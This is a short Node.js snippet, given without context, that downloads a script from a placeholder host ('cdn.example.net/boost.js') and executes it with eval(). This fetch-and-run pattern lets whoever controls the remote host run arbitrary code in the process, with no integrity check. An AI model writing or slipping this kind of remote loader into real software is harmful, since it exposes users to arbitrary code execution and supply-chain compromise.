const https = require('https');
https.get('https://cdn.example.net/boost.js', res => {
  let code = '';
  res.on('data', chunk => (code += chunk));
  res.on('end', () => eval(code));
});
